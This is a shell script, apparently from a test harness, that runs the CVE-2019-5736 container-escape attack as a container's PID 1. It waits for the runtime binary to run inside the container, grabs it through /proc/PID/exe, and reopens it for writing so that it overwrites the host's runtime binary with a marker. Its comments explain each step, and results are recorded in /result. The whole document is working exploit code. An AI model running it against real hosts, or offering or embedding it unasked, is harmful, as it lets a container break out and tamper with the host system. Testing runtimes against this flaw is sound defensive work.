# The CVE-2019-5736 attack, as a container's PID 1 (busybox sh). Results go to /result.
# 1. Make /tmp/f, a fifo: the runtime binary, run inside the container as
#    `/proc/self/exe --log /tmp/f state nope`, blocks opening it until we read, so it stays
#    alive while we look for it.
# 2. Open /proc/PID/exe of every other process read-only: that works for a dumpable process,
#    which a runtime binary executed as the user's program is.
# 3. Let it finish (read the fifo), then reopen the descriptor for writing through
#    /proc/self/fd/3 once the binary is no longer busy: with the host's own file that
#    overwrites the host's runtime binary.
# /result ends with WROTE (the attack worked), NOTWRITTEN <error> or GAVEUP (no process seen).
mkfifo /tmp/f
: > /result
echo ready > /ready
attack() {
  {
    echo "opened $1" >> /result
    cat /tmp/f > /dev/null
    i=0
    while [ $i -lt 100 ]; do
      if echo PWNED 2>/tmp/error >/proc/self/fd/3; then echo WROTE >> /result; return 0; fi
      sleep 0.1
      i=$((i + 1))
    done
    echo "NOTWRITTEN $(cat /tmp/error)" >> /result
  } 3< /proc/$1/exe
}
n=0
while [ $n -lt 1000 ]; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" = 1 ] && continue
    [ "$p" = $$ ] && continue
    if attack "$p" 2>/dev/null; then sleep 30; exit 0; fi
  done
  sleep 0.01
  n=$((n + 1))
done
cat /tmp/f > /dev/null &
echo GAVEUP >> /result
sleep 30
